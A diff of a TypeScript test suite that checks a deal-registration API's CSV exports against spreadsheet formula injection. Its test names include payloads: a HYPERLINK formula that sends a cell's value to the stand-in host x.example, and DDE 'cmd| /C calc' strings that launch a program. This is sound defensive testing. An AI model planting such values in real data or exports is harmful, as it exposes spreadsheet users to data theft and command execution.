@@ -19,8 +19,8 @@ const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 const HOSTILE_NAMES = [
   '=HYPERLINK("http://x.example/?"&A1,"open")',
   '+49 Maschinen GmbH',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '＝1+1 GmbH',
 ];
 
@@ -32,7 +32,9 @@ const rowsOf = (csv: string) => parse(csv.replace(/^\uFEFF/, ''), { columns: tru
 /** Every cell of a parsed CSV: none may start like a formula. */
 function formulaCells(rows: Record<string, string>[], numeric: readonly string[]) {
   return rows.flatMap((row) =>
-    Object.entries(row).filter(([column, value]) => FORMULA_START.test(value) && !(numeric.includes(column) && /^-?\d+(\.\d+)?$/.test(value))),
+    Object.entries(row).filter(
+      ([column, value]) => FORMULA_START.test(value) && !(numeric.includes(column) && /^-?\d+(\.\d+)?$/.test(value)),
+    ),
   );
 }
 
@@ -46,12 +48,18 @@ async function hostileDeals() {
   });
   const month = testMonth();
   for (const [index, name] of HOSTILE_NAMES.entries()) {
-    const body = registrationBody({ customer: { name: `${name} ${uniqueId('c')}`, country: 'DE', city: 'Köln' }, expectedCloseDate: `${month}-1${index}` }, t.sku);
+    const body = registrationBody(
+      { customer: { name: `${name} ${uniqueId('c')}`, country: 'DE', city: 'Köln' }, expectedCloseDate: `${month}-1${index}` },
+      t.sku,
+    );
     const created = await call('POST', '/registrations', { token: t.tokens.dealer, body });
     expect(created.status, created.text).toBe(201);
   }
   for (const start of ['\t', '\r']) {
-    const refused = await call('POST', '/registrations', { token: t.tokens.dealer, body: registrationBody({ customer: { name: `${start}=1+1`, country: 'DE' } }, t.sku) });
+    const refused = await call('POST', '/registrations', {
+      token: t.tokens.dealer,
+      body: registrationBody({ customer: { name: `${start}=1+1`, country: 'DE' } }, t.sku),
+    });
     // Trimmed away or refused: never stored as a cell starting with a control character.
     expect([201, 400]).toContain(refused.status);
   }
@@ -72,7 +80,9 @@ const EXPORTS: Record<string, () => Promise<void>> = {
   },
   'GET /forecast': async () => {
     const { t, month } = await hostileDeals();
-    const response = await call('GET', `/forecast?from=${month}&to=${month}&groupBy=month,productLine,region,dealer,tier&format=csv`, { token: t.tokens.finance });
+    const response = await call('GET', `/forecast?from=${month}&to=${month}&groupBy=month,productLine,region,dealer,tier&format=csv`, {
+      token: t.tokens.finance,
+    });
     expect(response.status).toBe(200);
     const rows = rowsOf(response.text);
     expect(rows.some((r) => r.dealer === t.dealerId)).toBe(true);
@@ -82,7 +92,9 @@ const EXPORTS: Record<string, () => Promise<void>> = {
 };
 
 const csvRoutes = routes.filter((r) => {
-  const format = r.query?.shape.format as { options?: readonly string[]; def?: { innerType?: { options?: readonly string[] } } } | undefined;
+  const format = r.query?.shape.format as
+    | { options?: readonly string[]; def?: { innerType?: { options?: readonly string[] } } }
+    | undefined;
   const options = format?.options ?? format?.def?.innerType?.options ?? [];
   return options.includes('csv');
 });
@@ -103,7 +115,9 @@ describe('CSV exports', () => {
 
   it('writes CSV only through the shared writer, which escapes formulas', () => {
     const root = path.resolve(import.meta.dirname, '../..');
-    const users = ['functions', 'shared'].flatMap((dir) => sourceFiles(path.join(root, dir))).filter((file) => /from 'csv-stringify/.test(readFileSync(file, 'utf8')));
+    const users = ['functions', 'shared']
+      .flatMap((dir) => sourceFiles(path.join(root, dir)))
+      .filter((file) => /from 'csv-stringify/.test(readFileSync(file, 'utf8')));
     expect(users.map((file) => path.relative(root, file))).toEqual([path.join('shared', 'exports', 'csv.ts')]);
     expect(readFileSync(path.join(root, 'shared/exports/csv.ts'), 'utf8')).toMatch(/escape_formulas: true/);
   });
